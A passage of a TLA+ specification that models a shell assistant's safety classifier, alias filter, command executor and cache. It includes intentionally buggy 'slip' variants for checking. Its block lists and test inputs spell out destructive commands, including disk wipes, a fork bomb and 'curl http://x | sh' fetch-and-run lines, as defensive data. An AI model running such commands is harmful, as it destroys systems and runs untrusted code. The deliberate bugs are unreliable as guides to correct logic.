---- MODULE Spec2Model ----
(***************************************************************************)
(* ShellSensei: the interactive session of tui_app.py (ShellSenseiApp),    *)
(* with the safety classifier of executor.py (check_safety) it calls and   *)
(* the alias loader (_load_aliases).  Strings are TLA+ strings; the        *)
(* regular expressions of the pattern registries are data, matched by the  *)
(* small matcher below (the constructs the registries use: literals, \s+,   *)
(* \s*, .*, \b, $ and an alternation of literals).                          *)
(*                                                                         *)
(* Seven specifications share the module: Spec is the session,             *)
(* SpecClassify is check_safety called on its own over a set of command    *)
(* strings, SpecCache is the response cache of ai_core.py with its storage *)
(* and somebody who can write to the cache directory, SpecAsk is            *)
(* get_ai_response over that cache, SpecExecute is execute called on its   *)
(* own, SpecHistory is read_shell_history over a set of history files,     *)
(* SpecPump is the message pump that serialises the handling of the        *)
(* submitted inputs.  Each leaves the variables of the others at rest.     *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Strings                                                                 *)
(***************************************************************************)

\* The character at 1-based position i of string s.
CharAt(s, i) == SubSeq(s, i, i)

UpperChars == <<"A","B","C","D","E","F","G","H","I","J","K","L","M",
                "N","O","P","Q","R","S","T","U","V","W","X","Y","Z">>

LowerChars == <<"a","b","c","d","e","f","g","h","i","j","k","l","m",
                "n","o","p","q","r","s","t","u","v","w","x","y","z">>

Digits == {"0","1","2","3","4","5","6","7","8","9"}

\* \s of Python's re on str.
WhiteSpace == {" ", "\t", "\n", "\r", "\f"}

\* \w of Python's re on str (ASCII part).
WordChars == {UpperChars[i] : i \in DOMAIN UpperChars}
             \cup {LowerChars[i] : i \in DOMAIN LowerChars}
             \cup Digits \cup {"_"}

LowerChar(c) ==
    IF \E i \in DOMAIN UpperChars : UpperChars[i] = c
    THEN LowerChars[CHOOSE i \in DOMAIN UpperChars : UpperChars[i] = c]
    ELSE c

RECURSIVE LowerFrom(_, _)
LowerFrom(s, i) ==
    IF i > Len(s) THEN "" ELSE LowerChar(CharAt(s, i)) \o LowerFrom(s, i + 1)

\* str.lower()
Lower(s) == LowerFrom(s, 1)

\* str.startswith(prefix)
StartsWith(s, prefix) ==
    Len(s) >= Len(prefix) /\ SubSeq(s, 1, Len(prefix)) = prefix

RECURSIVE LStrip(_)
LStrip(s) ==
    IF Len(s) > 0 /\ CharAt(s, 1) \in WhiteSpace THEN LStrip(Tail(s)) ELSE s

RECURSIVE RStrip(_)
RStrip(s) ==
    IF Len(s) > 0 /\ CharAt(s, Len(s)) \in WhiteSpace
    THEN RStrip(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* str.strip()
Strip(s) == RStrip(LStrip(s))

(***************************************************************************)
(* re.search for the constructs of the registries.  A pattern is a         *)
(* sequence of items; a position is the number of characters consumed.     *)
(***************************************************************************)

Lit(str)  == [t |-> "lit", s |-> str]
Ws1       == [t |-> "ws", min |-> 1]           \* \s+
Ws0       == [t |-> "ws", min |-> 0]           \* \s*
AnyStar   == [t |-> "any"]                     \* .*
Eol       == [t |-> "eol"]                     \* $
Wb        == [t |-> "wb"]                      \* \b
Alt(strs) == [t |-> "alt", opts |-> strs]      \* (a|b)
\* The back-tick character: a TLA+ string cannot hold one, so no string of
\* this model contains it and the item matches nowhere.
Backtick  == [t |-> "backtick"]

IsWordAt(s, i) == i >= 1 /\ i <= Len(s) /\ CharAt(s, i) \in WordChars

\* The positions item `it` can end at when it starts at a position of P.
StepItem(it, s, P) ==
    CASE it.t = "lit" ->
           {p + Len(it.s) : p \in {q \in P : q + Len(it.s) <= Len(s)
                                     /\ SubSeq(s, q + 1, q + Len(it.s)) = it.s}}
      [] it.t = "alt" ->
           UNION {{p + Len(o) : p \in {q \in P : q + Len(o) <= Len(s)
                                     /\ SubSeq(s, q + 1, q + Len(o)) = o}}
                  : o \in it.opts}
      [] it.t = "ws" ->
           UNION {{q \in (p + it.min)..Len(s) :
                     \A k \in (p + 1)..q : CharAt(s, k) \in WhiteSpace} : p \in P}
      [] it.t = "any" ->
           UNION {{q \in p..Len(s) :
                     \A k \in (p + 1)..q : CharAt(s, k) # "\n"} : p \in P}
      [] it.t = "eol" ->
           {p \in P : p = Len(s) \/ (p = Len(s) - 1 /\ CharAt(s, Len(s)) = "\n")}
      [] it.t = "wb" ->
           {p \in P : IsWordAt(s, p) # IsWordAt(s, p + 1)}
      [] it.t = "backtick" -> {}

RECURSIVE RunItems(_, _, _, _)
RunItems(pat, k, s, P) ==
    IF k > Len(pat) \/ P = {} THEN P
    ELSE RunItems(pat, k + 1, s, StepItem(pat[k], s, P))

\* re.search(pattern, s): a match starting anywhere.
Search(pat, s) == RunItems(pat, 1, s, 0..Len(s)) # {}

\* re.search(pattern, s, re.IGNORECASE) for a pattern of lower-case literals.
SearchIgnoreCase(pat, s) == Search(pat, Lower(s))

(***************************************************************************)
(* executor.py: the pattern registries and check_safety                    *)
(***************************************************************************)

BLOCKED_PATTERNS == <<
    <<Lit("rm"), Ws1, Lit("-rf"), Ws0, Lit("/"), Ws0, Eol>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws0, Lit("/"), Wb>>,
    <<Lit("dd"), Ws1, AnyStar, Lit("of=/dev/sd")>>,
    <<Lit("dd"), Ws1, AnyStar, Lit("of=/dev/hd")>>,
    <<Lit("dd"), Ws1, AnyStar, Lit("of=/dev/nvme")>>,
    <<Lit("mkfs.")>>,
    <<Lit(":(){"), Ws0, Lit(":|:&"), Ws0, Lit("};:")>>,
    <<Lit(":(){"), Ws0, Lit(":|:"), Ws0, Lit("&"), Ws0, Lit("};:")>>,
    <<Lit("--no-preserve-root")>>,
    <<Lit("chmod"), Ws1, Lit("777"), Ws1, Lit("/"), Ws0, Eol>>,
    <<Lit("chown"), Ws1, Lit("-R"), AnyStar, Ws1, Lit("/"), Ws0, Eol>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/home"), Ws0, Eol>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/etc")>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/usr")>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/var")>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/bin")>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/sbin")>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/lib")>>,
    <<Lit("rm"), Ws1, Lit("-rf"), Ws1, Lit("/boot")>> >>

MsgSudo   == "This command requires administrator (sudo) privileges."
MsgRmRf   == "This will permanently delete files/directories."
MsgRmR    == "This will recursively delete a directory."
MsgPipe   == "This downloads a script from the internet and runs it directly."
MsgChmod  == "This changes permissions recursively."
MsgDd     == "dd can be dangerous if used incorrectly."
\* (the source text starts with a no-entry sign and has a dash for the hyphen)
MsgBlocked == "This command is BLOCKED - it can permanently destroy your system."

CAUTION_PATTERNS == <<
    [pat |-> <<Wb, Lit("sudo"), Wb>>,                    msg |-> MsgSudo],
    [pat |-> <<Wb, Lit("rm"), Ws1, Lit("-rf"), Wb>>,     msg |-> MsgRmRf],
    [pat |-> <<Wb, Lit("rm"), Ws1, Lit("-r"), Wb>>,      msg |-> MsgRmR],
    [pat |-> <<Wb, Lit("curl"), Wb, AnyStar, Lit("|"), Ws0, Alt({"bash", "sh"}), Wb>>,
                                                         msg |-> MsgPipe],
    [pat |-> <<Wb, Lit("wget"), Wb, AnyStar, Lit("|"), Ws0, Alt({"bash", "sh"}), Wb>>,
                                                         msg |-> MsgPipe],
    [pat |-> <<Wb, Lit("chmod"), Ws1, Lit("-R"), Wb>>,   msg |-> MsgChmod],
    [pat |-> <<Wb, Lit("dd"), Wb>>,                      msg |-> MsgDd] >>

\* A slip in the caution loop: it stops at the first matching pattern.
RECURSIVE CautionWarningsFirst(_, _)
CautionWarningsFirst(command, k) ==
    IF k > Len(CAUTION_PATTERNS) THEN <<>>
    ELSE IF Search(CAUTION_PATTERNS[k].pat, command)
         THEN <<CAUTION_PATTERNS[k].msg>>
         ELSE CautionWarningsFirst(command, k + 1)

\* The warnings list check_safety builds: one message per matching caution
\* pattern, in registry order.
RECURSIVE CautionWarnings(_, _)
CautionWarnings(command, k) ==
    IF k > Len(CAUTION_PATTERNS) THEN <<>>
    ELSE (IF Search(CAUTION_PATTERNS[k].pat, command)
          THEN <<CAUTION_PATTERNS[k].msg>> ELSE <<>>)
         \o CautionWarnings(command, k + 1)

\* " | ".join(warnings)
RECURSIVE JoinWarnings(_)
JoinWarnings(ws) ==
    IF ws = <<>> THEN ""
    ELSE IF Len(ws) = 1 THEN ws[1]
    ELSE ws[1] \o " | " \o JoinWarnings(Tail(ws))

\* A slip in check_safety: the caution registry is consulted first.
check_safety_caution_first(command) ==
    LET warnings == CautionWarnings(command, 1)
    IN  IF warnings # <<>>
        THEN <<"caution", JoinWarnings(warnings)>>
        ELSE IF \E k \in DOMAIN BLOCKED_PATTERNS :
                    Search(BLOCKED_PATTERNS[k], command)
             THEN <<"dangerous", MsgBlocked>>
             ELSE <<"safe", "">>

\* A slip in check_safety: the caution registry is not consulted.
check_safety_blocked_only(command) ==
    IF \E k \in DOMAIN BLOCKED_PATTERNS : Search(BLOCKED_PATTERNS[k], command)
    THEN <<"dangerous", MsgBlocked>>
    ELSE <<"safe", "">>

\* check_safety(command) -> (level, warning_message)
check_safety(command) ==
    IF \E k \in DOMAIN BLOCKED_PATTERNS : Search(BLOCKED_PATTERNS[k], command)
    THEN <<"dangerous", MsgBlocked>>
    ELSE LET warnings == CautionWarnings(command, 1)
         IN  IF warnings # <<>>
             THEN <<"caution", JoinWarnings(warnings)>>
             ELSE <<"safe", "">>

(***************************************************************************)
(* tui_app.py: _load_aliases                                               *)
(***************************************************************************)

\* dangerous_patterns of _load_aliases, searched with re.IGNORECASE.
dangerous_patterns == <<
    <<Lit("curl"), Ws1, Lit("http")>>,
    <<Lit("wget"), Ws1, Lit("http")>>,
    <<Lit("$(")>>,
    <<Backtick>>,
    <<Lit(";"), Ws0, Lit("rm"), Ws1, Lit("-rf")>>,
    <<Lit("|"), Ws0, Lit("sh")>>,
    <<Lit("|"), Ws0, Lit("bash")>> >>

is_safe_alias(command) ==
    ~ \E k \in DOMAIN dangerous_patterns :
          SearchIgnoreCase(dangerous_patterns[k], command)

NoAliases == [n \in {} |-> ""]

default_aliases ==
    [n \in {"update", "ports", "myip", "clean"} |->
        CASE n = "update" -> "sudo apt update && sudo apt upgrade -y"
          [] n = "ports"  -> "sudo netstat -tulpn"
          [] n = "myip"   -> "curl -s ifconfig.me"
          [] n = "clean"  -> "sudo apt autoremove -y && sudo apt clean"]

\* The alias file as _load_aliases finds it: absent (and the directory
\* writable or not), holding a JSON object of name -> command, or holding
\* something json.load rejects.  log_raises tells whether self.log.write,
\* called when an entry was filtered, raises (self.log is the framework's
\* logger, not the app's own _log).
StoredNuke == [n \in {"nuke", "ll"} |->
                 IF n = "nuke" THEN "curl http://x | sh" ELSE "ls"]

StoredWipe == [n \in {"wipe"} |-> "run rm -rf /etc"]

AliasFiles ==
    { [kind |-> "absent", writable |-> TRUE,  content |-> NoAliases,
       log_raises |-> FALSE],
      [kind |-> "absent", writable |-> FALSE, content |-> NoAliases,
       log_raises |-> FALSE],
      [kind |-> "object", writable |-> TRUE,  content |-> StoredNuke,
       log_raises |-> FALSE],
      [kind |-> "object", writable |-> TRUE,  content |-> StoredNuke,
       log_raises |-> TRUE],
      [kind |-> "object", writable |-> TRUE,  content |-> StoredWipe,
       log_raises |-> FALSE],
      [kind |-> "corrupt", writable |-> TRUE, content |-> NoAliases,
       log_raises |-> FALSE] }

\* A slip in _load_aliases: the stored entries are taken as they are.
load_aliases_unfiltered(file) ==
    CASE file.kind = "absent" ->
            IF file.writable THEN default_aliases ELSE NoAliases
      [] file.kind = "object" -> file.content
      [] OTHER -> NoAliases

\* The value of self.aliases after _load_aliases.
load_aliases(file) ==
    CASE file.kind = "absent" ->
            IF file.writable THEN default_aliases ELSE NoAliases
      [] file.kind = "object" ->
            LET kept == {m \in DOMAIN file.content :
                            is_safe_alias(file.content[m])}
            IN  IF kept # DOMAIN file.content /\ file.log_raises
                THEN NoAliases
                ELSE [n \in kept |-> file.content[n]]
      [] OTHER -> NoAliases

(***************************************************************************)
(* executor.py: execute.  What the child process does is the environment's *)
(* choice: it exits with a return code, outlives the timeout, or cannot be *)
(* launched.                                                               *)
(***************************************************************************)

\* The timeout of execute when the caller names none.
DefaultTimeout == 30

\* What subprocess.run does in a session: the command exits with a return
\* code, or outlives the timeout.  elapsed_ms is the wall-clock time the
\* call took.
ProcessOutcomes ==
    { [kind |-> "exit", returncode |-> 0, stdout |-> "ok", stderr |-> "",
       elapsed_ms |-> 5],
      [kind |-> "exit", returncode |-> 1, stdout |-> "",   stderr |-> "",
       elapsed_ms |-> 5],
      [kind |-> "timeout", returncode |-> 0, stdout |-> "", stderr |-> "",
       elapsed_ms |-> DefaultTimeout * 1000] }

\* A slip in execute: a return code of a killed child counts as success.
completed_unless_positive(outcome) ==
    [success     |-> outcome.returncode <= 0,
     output      |-> outcome.stdout,
     error       |-> outcome.stderr,
     exit_code   |-> outcome.returncode,
     duration_ms |-> outcome.elapsed_ms]

\* What execute returns when subprocess.run returned.
completed(outcome) ==
    [success     |-> outcome.returncode = 0,
     output      |-> outcome.stdout,
     error       |-> outcome.stderr,
     exit_code   |-> outcome.returncode,
     duration_ms |-> outcome.elapsed_ms]

\* A slip in execute: the duration of a timeout is given in seconds.
timed_out_seconds(timeout) ==
    [success     |-> FALSE,
     output      |-> "",
     error       |-> "Command timed out after " \o ToString(timeout)
                        \o " seconds.",
     exit_code   |-> -1,
     duration_ms |-> timeout]

\* What execute returns when subprocess.run raised TimeoutExpired.
timed_out(timeout) ==
    [success     |-> FALSE,
     output      |-> "",
     error       |-> "Command timed out after " \o ToString(timeout)
                        \o " seconds.",
     exit_code   |-> -1,
     duration_ms |-> timeout * 1000]

\* What leaves a function that raises instead of returning.
Raised(message) == [raised |-> message]

\* A slip in execute: no "except Exception" clause.
faulted_uncaught(outcome) == Raised(outcome.message)

\* What execute returns when subprocess.run raised anything else.
faulted(outcome) ==
    [success     |-> FALSE,
     output      |-> "",
     error       |-> outcome.message,
     exit_code   |-> -1,
     duration_ms |-> outcome.elapsed_ms]

\* execute(command, timeout), subprocess.run doing `outcome`.
execute(command, timeout, outcome) ==
    CASE outcome.kind = "exit" -> completed(outcome)
      [] outcome.kind = "timeout" -> timed_out(timeout)
      [] outcome.kind = "fault" -> faulted(outcome)

(***************************************************************************)
(* The oracles (ai_core.py, out of scope): any reply is possible.          *)
(***************************************************************************)

\* The longest next_steps list an oracle reply carries in this model.
MaxNextSteps == 1

\* "command" of a reply of get_ai_response ("" when there is none).
OracleCmds == {"", "ls", "sudo apt update", "rm -rf /etc", "cat", "vim"}


\* "cmd" of an entry of "next_steps".
StepCmds == {"", "rm -rf /etc"}

NextStepLists ==
    UNION {[1..k -> [cmd : StepCmds]] : k \in 0..MaxNextSteps}

\* "fix_command" of a reply of get_error_fix ("" when there is no fix).
FixCmds == {"", "sudo apt update", "rm -rf /etc"}

\* is_interactive_command is imported from executor by _handle_input, and
\* executor.py does not define it.  It is taken to recognise the programs
\* the system prompt lists as interactive.
is_interactive_command(command) ==
    Strip(command) \in {"htop", "vim", "nano", "top"}

stdin_cmds == {"cat", "grep", "sed", "awk", "sort", "uniq", "wc"}

\* What _handle_input does with a reply whose "command" is `command`, from
\* "If no command came back" down to the assignment of _pending_cmd.
AIOutcome(command) ==
    IF command = "" THEN "ai_no_command"
    ELSE IF is_interactive_command(command) THEN "ai_interactive"
    ELSE IF Strip(command) \in stdin_cmds THEN "ai_stdin"
    ELSE IF check_safety(command)[1] = "dangerous" THEN "ai_blocked"
    ELSE "ai_pending"

\* AIOutcome on the commands the oracle replies with, computed once.
AIOutcomeOfReply == [c \in OracleCmds |-> AIOutcome(c)]

(***************************************************************************)
(* tui_app.py: the session (ShellSenseiApp)                                *)
(***************************************************************************)

\* What the user can submit (on_submit_text_area_submitted strips it and
\* drops it when empty).
Inputs ==
    { "y", "YES", "n",
      "/ll", "/nuke", "/update", "/wipe",
      "help", "Progress", "exit",
      "1", "2",
      "run ls", "RUN rm -rf /etc",
      "list files" }

\* Every text _handle_input can be working on: an input or the expansion of
\* an alias.
Texts ==
    Inputs \cup UNION {{load_aliases(f)[n] : n \in DOMAIN load_aliases(f)}
                       : f \in AliasFiles}

\* str.lower() on the texts, computed once.
LowerOfText == [s \in Texts |-> Lower(s)]

\* check_safety taken alone: its argument and what it returned.
VARIABLES
    classify_command,  \* the command string handed to check_safety
    classify_result    \* <<>> before the call, then the tuple returned

classifyVars == <<classify_command, classify_result>>

\* check_safety is not being exercised alone.
ClassifyUnused == classify_command = "" /\ classify_result = <<>>

\* The response cache of ai_core.py taken alone.
VARIABLES
    CACHE_SECRET,   \* the secret of the running process
    cache_dir,      \* CACHE_DIR: cache key -> [bytes, mtime] of its file
    clock,          \* time.time()
    cache_call,     \* the last cache operation and how it ended
    copied          \* the bytes somebody with access to CACHE_DIR has
                    \* copied from a file (<<>>: none)

cacheVars == <<CACHE_SECRET, cache_dir, clock, cache_call, copied>>

\* The cache is not being exercised.
CacheUnused ==
    /\ CACHE_SECRET = 0
    /\ cache_dir = <<>>
    /\ clock = 0
    /\ cache_call = <<>>
    /\ copied = <<>>

\* execute of executor.py taken alone.
VARIABLES
    execute_command,  \* the command string handed to execute
    execute_timeout,  \* the timeout handed to execute, in seconds
    execute_outcome,  \* <<>> before the call, then what subprocess.run did
    execute_result    \* <<>> before the call, then what execute handed back

executeVars == <<execute_command, execute_timeout, execute_outcome,
                 execute_result>>

\* execute is not being exercised alone.
ExecuteUnused ==
    /\ execute_command = ""
    /\ execute_timeout = 0
    /\ execute_outcome = <<>>
    /\ execute_result = <<>>

\* read_shell_history of executor.py taken alone.
VARIABLES
    history_shell,    \* the shell named by $SHELL
    history_file,     \* the history file of that shell
    history_n,        \* the n handed to read_shell_history
    history_result    \* <<>> before the call, then <<the list returned>>

historyVars == <<history_shell, history_file, history_n, history_result>>

\* read_shell_history is not being exercised.
HistoryUnused ==
    /\ history_shell = ""
    /\ history_file = <<>>
    /\ history_n = 0
    /\ history_result = <<>>

\* The message pump of the application taken alone.
VARIABLES
    message_queue,  \* the messages posted to the App and not yet dispatched
    handlers,       \* the _handle_input coroutines that have begun and not
                    \* returned: [id, raw, at]
    submitted,      \* how many inputs the user has submitted
    executing,      \* the inputs whose execute() call is in progress
    delivered       \* the inputs whose result was written to the log, in
                    \* the order of the writes

pumpVars == <<message_queue, handlers, submitted, executing, delivered>>

\* The message pump is not being exercised.
PumpUnused ==
    /\ message_queue = <<>>
    /\ handlers = {}
    /\ submitted = 0
    /\ executing = {}
    /\ delivered = <<>>

VARIABLES
    aliases,        \* self.aliases
    _pending_cmd,   \* self._pending_cmd
    _pending_alias, \* self._pending_alias
    suggestions,    \* self.suggestions
    last_error,     \* self.last_error: <<>> is {}, else <<[cmd, error]>>
    running,        \* FALSE once self.exit() was called
    \* history of the last handled input:
    last_raw,       \* the text submitted
    path,           \* the branch of _handle_input that handled it
    ran,            \* the commands passed to execute, in order
    asked,          \* the queries passed to get_ai_response_async, in order
    superseded,     \* the command the proposal before the last one put
                    \* pending and the last proposal has just replaced
    proposed,       \* response["command"] of the reply to the last query
    fix_proposed,   \* fix["fix_command"] of the reply of get_error_fix to
                    \* the failure of the last execution ("": none)
    succeeded       \* result["success"] of each command in ran, in order

sessionVars == <<aliases, _pending_cmd, _pending_alias, suggestions,
                 last_error, running, last_raw, path, ran, asked, superseded,
                 proposed, fix_proposed, succeeded>>

vars == <<sessionVars, classifyVars, cacheVars, executeVars, historyVars,
          pumpVars>>

Init ==
    /\ \E file \in AliasFiles : aliases = load_aliases(file)
    /\ _pending_cmd = ""
    /\ _pending_alias = ""
    /\ suggestions = <<>>
    /\ last_error = <<>>
    /\ running = TRUE
    /\ last_raw = ""
    /\ path = "start"
    /\ ran = <<>>
    /\ asked = <<>>
    /\ superseded = ""
    /\ proposed = ""
    /\ fix_proposed = ""
    /\ succeeded = <<>>
    /\ ClassifyUnused
    /\ CacheUnused
    /\ ExecuteUnused
    /\ HistoryUnused
    /\ PumpUnused

Affirmative(raw) == LowerOfText[raw] = "y" \/ LowerOfText[raw] = "yes"

\* A slip in the negative vocabulary: only the full word is taken.
NegativeOnlyNo(raw) == LowerOfText[raw] = "no"

Negative(raw) == LowerOfText[raw] = "n" \/ LowerOfText[raw] = "no"

\* int(raw) for raw in ("1", "2", "3")
IntOf(raw) == CASE raw = "1" -> 1 [] raw = "2" -> 2 [] raw = "3" -> 3

\* A slip in _run_command: a success leaves the record of the failure
\* before it.
ErrorRecordNeverCleared(cmd, result) ==
    IF result.success THEN last_error
    ELSE <<[cmd |-> cmd,
            error |-> IF Strip(result.error) # ""
                      THEN Strip(result.error) ELSE "Unknown error"]>>

\* What _run_command(cmd) assigns to self.last_error after execute(cmd)
\* returned result.
ErrorRecord(cmd, result) ==
    IF result.success THEN <<>>
    ELSE <<[cmd |-> cmd,
            error |-> IF Strip(result.error) # ""
                      THEN Strip(result.error) ELSE "Unknown error"]>>

\* A slip in _run_command: the command that ran is left pending.
RunCommandKeepsPending(cmd, pend) ==
    \E outcome \in ProcessOutcomes :
        LET result == execute(cmd, DefaultTimeout, outcome) IN
        /\ ran' = <<cmd>>
        /\ succeeded' = <<result.success>>
        /\ IF result.success
           THEN /\ last_error' = ErrorRecord(cmd, result)
                /\ _pending_cmd' = cmd
                /\ fix_proposed' = ""
           ELSE /\ last_error' = ErrorRecord(cmd, result)
                /\ \E fix_command \in FixCmds :
                      /\ fix_proposed' = fix_command
                      /\ _pending_cmd' = IF fix_command # ""
                                         THEN fix_command ELSE cmd

\* _run_command(cmd), entered with self._pending_cmd = pend.
RunCommand(cmd, pend) ==
    \E outcome \in ProcessOutcomes :
        LET result == execute(cmd, DefaultTimeout, outcome) IN
        /\ ran' = <<cmd>>
        /\ succeeded' = <<result.success>>
        /\ IF result.success
           THEN /\ last_error' = ErrorRecord(cmd, result)
                /\ _pending_cmd' = pend
                /\ fix_proposed' = ""
           ELSE /\ last_error' = ErrorRecord(cmd, result)
                /\ \E fix_command \in FixCmds :
                      /\ fix_proposed' = fix_command
                      /\ _pending_cmd' = IF fix_command # ""
                                         THEN fix_command ELSE pend

\* The alias confirmation flow at the head of _handle_input: 'y' expands the
\* pending alias and goes on with the expansion as the input.
AliasConfirmed(raw0) == Affirmative(raw0) /\ _pending_alias # ""

AliasCancelled(raw0) ==
    ~AliasConfirmed(raw0) /\ Negative(raw0) /\ _pending_alias # ""

ExpandedRaw(raw0) ==
    IF AliasConfirmed(raw0) THEN aliases[_pending_alias] ELSE raw0

\* The suggestion a number picks ("" when it picks none).
Picked(raw) ==
    IF raw \in {"1", "2", "3"} /\ suggestions # <<>>
       /\ IntOf(raw) - 1 < Len(suggestions)
    THEN suggestions[IntOf(raw)].cmd
    ELSE ""

\* The command of a "run <cmd>" input ("" when the input is none).
RunArg(raw) ==
    IF StartsWith(LowerOfText[raw], "run ")
    THEN Strip(SubSeq(raw, 5, Len(raw)))
    ELSE ""

\* A slip in the alias invocation: the name is not looked up.
KnownAliasAlways(alias_name) == TRUE

\* "if alias_name in self.aliases"
KnownAlias(alias_name) == alias_name \in DOMAIN aliases

\* A slip in the special commands: the text is compared as typed.
SpecialAsTyped(raw) == raw \in {"help", "profile", "progress"}

\* The special commands that show something: help, profile, progress.
Special(raw) == LowerOfText[raw] \in {"help", "profile", "progress"}

\* The branch of _handle_input that handles raw0.
Branch(raw0) ==
    LET raw == ExpandedRaw(raw0) IN
    CASE AliasCancelled(raw0) -> "alias_cancel"
      [] OTHER ->
    CASE StartsWith(raw, "/") ->
            IF KnownAlias(Tail(raw)) THEN "alias_propose"
                                            ELSE "alias_unknown"
      [] OTHER ->
    CASE LowerOfText[raw] \in {"exit", "quit", "q"} -> "exit"
      [] Special(raw) -> "special"
      [] OTHER ->
    CASE Affirmative(raw) /\ _pending_cmd # "" -> "confirm"
      [] Negative(raw) /\ _pending_cmd # "" -> "cancel"
      [] OTHER ->
    CASE Picked(raw) # "" -> "pick"
      [] OTHER ->
    CASE RunArg(raw) # "" -> "run"
      [] OTHER -> "query"

\* The normal AI query of _handle_input, from get_ai_response_async on.
AIQuery(raw) ==
    /\ asked' = <<raw>>
    /\ ran' = <<>>
    /\ last_error' = last_error
    /\ \/ \* the call raises: the error is logged
          /\ path' = "ai_error"
          /\ suggestions' = suggestions
          /\ _pending_cmd' = _pending_cmd
          /\ superseded' = ""
          /\ proposed' = ""
       \/ \E command \in OracleCmds :
          /\ path' = AIOutcomeOfReply[command]
          /\ proposed' = command
          /\ IF AIOutcomeOfReply[command] = "ai_pending"
             THEN /\ _pending_cmd' = command
                  /\ superseded' = IF path = "ai_pending"
                                      /\ _pending_cmd \notin {"", command}
                                   THEN _pending_cmd ELSE ""
             ELSE /\ _pending_cmd' = _pending_cmd
                  /\ superseded' = ""
          /\ \E next_steps \in NextStepLists : suggestions' = next_steps

\* _handle_input(raw0)
HandleInput(raw0) ==
    /\ running
    /\ \E raw \in {ExpandedRaw(raw0)}, br \in {Branch(raw0)} :
        /\ last_raw' = raw0
        /\ aliases' = aliases
        /\ _pending_alias' =
              IF AliasConfirmed(raw0) \/ AliasCancelled(raw0) THEN ""
              ELSE IF br = "alias_propose" THEN Tail(raw)
              ELSE _pending_alias
        /\ running' = (br # "exit")
        /\ IF br = "query" THEN TRUE ELSE proposed' = ""
        /\ IF br \in {"confirm", "pick", "run"} THEN TRUE
           ELSE fix_proposed' = "" /\ succeeded' = <<>>
        /\ CASE br \in {"alias_cancel", "alias_propose", "alias_unknown",
                        "exit", "special"} ->
                   /\ path' = br
                   /\ ran' = <<>>
                   /\ asked' = <<>>
                   /\ superseded' = ""
                   /\ UNCHANGED <<_pending_cmd, suggestions, last_error>>
             [] br = "confirm" ->
                   /\ path' = br
                   /\ asked' = <<>>
                   /\ superseded' = ""
                   /\ suggestions' = suggestions
                   /\ RunCommand(_pending_cmd, "")
             [] br = "cancel" ->
                   /\ path' = br
                   /\ superseded' = ""
                   /\ _pending_cmd' = ""
                   /\ ran' = <<>>
                   /\ asked' = <<>>
                   /\ UNCHANGED <<suggestions, last_error>>
             [] br = "pick" ->
                   /\ path' = br
                   /\ asked' = <<>>
                   /\ superseded' = ""
                   /\ suggestions' = suggestions
                   /\ RunCommand(Picked(raw), _pending_cmd)
             [] br = "run" ->
                   /\ path' = br
                   /\ asked' = <<>>
                   /\ superseded' = ""
                   /\ suggestions' = suggestions
                   /\ RunCommand(RunArg(raw), _pending_cmd)
             [] br = "query" -> AIQuery(raw)
    /\ UNCHANGED <<classifyVars, cacheVars, executeVars, historyVars,
                   pumpVars>>

Next == \E raw0 \in Inputs : HandleInput(raw0)

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* executor.py: check_safety on its own, over a set of command strings     *)
(***************************************************************************)

\* No session is running.
SessionUnused ==
    /\ aliases = NoAliases
    /\ _pending_cmd = ""
    /\ _pending_alias = ""
    /\ suggestions = <<>>
    /\ last_error = <<>>
    /\ running = FALSE
    /\ last_raw = ""
    /\ path = "start"
    /\ ran = <<>>
    /\ asked = <<>>
    /\ superseded = ""
    /\ proposed = ""
    /\ fix_proposed = ""
    /\ succeeded = <<>>

CommandLeads == {"", "sudo "}

CommandCores ==
    { "ls -la", "echo hi", "apt update",
      "rm -rf /", "rm -rf /etc", "rm -rf /usr", "rm -rf /var", "rm -rf /bin",
      "rm -rf /sbin", "rm -rf /lib", "rm -rf /boot", "rm -rf /home",
      "rm -rf ./build", "rm -r dir", "rm -rf --no-preserve-root /",
      "chmod -R 777 /", "chmod 777 /", "chmod -R 755 dir",
      "chown -R user /", "chown user file",
      "dd if=/dev/zero of=/dev/sda", "dd if=a of=/dev/hda",
      "dd if=a of=/dev/nvme0n1", "dd if=a of=b",
      "mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sda1",
      ":(){ :|:& };:", ":(){:|:&};:",
      "curl http://x | sh", "wget http://x | bash", "curl a | wget b | sh",
      "curl -s ifconfig.me" }

CommandTrails == {"", " ", " && rm -r tmp"}

\* The command strings check_safety is called on.
ClassifyCommands ==
    {lead \o core \o trail :
        lead \in CommandLeads, core \in CommandCores, trail \in CommandTrails}

InitClassify ==
    /\ SessionUnused
    /\ CacheUnused
    /\ ExecuteUnused
    /\ HistoryUnused
    /\ PumpUnused
    /\ classify_command \in ClassifyCommands
    /\ classify_result = <<>>

Classify ==
    /\ classify_result = <<>>
    /\ classify_result' = check_safety(classify_command)
    /\ UNCHANGED <<classify_command, sessionVars, cacheVars, executeVars,
                    historyVars, pumpVars>>

NextClassify == Classify

SpecClassify == InitClassify /\ [][NextClassify]_vars

(***************************************************************************)
(* ai_core.py: the response cache.  A byte string is a sequence of units;  *)
(* a file of the cache directory is [bytes, mtime].  HMAC-SHA256 and MD5   *)
(* are taken as ideal: equal outputs only for equal inputs.                *)
(***************************************************************************)

CACHE_TTL == 86400

\* The width of an HMAC-SHA256 digest, the 32 of _verify_cache.
DigestSize == 32

\* hmac.new(secret, data, hashlib.sha256).digest(): DigestSize units, each
\* written as the text of (secret, data, position), so that two digests are
\* equal only for the same secret and the same data.
HmacDigest(secret, data) ==
    [i \in 1..DigestSize |-> ToString(<<secret, data, i>>)]

\* hashlib.md5(content.encode()).hexdigest()
Md5(content) == [md5 |-> content]

\* _get_cache_key(query, profile)
get_cache_key(query, profile) == Md5(query \o "|" \o profile)

\* A slip in _sign_cache: the data is stored without its signature.
sign_cache_unsigned(secret, data) == data

\* _sign_cache(data), with CACHE_SECRET = secret
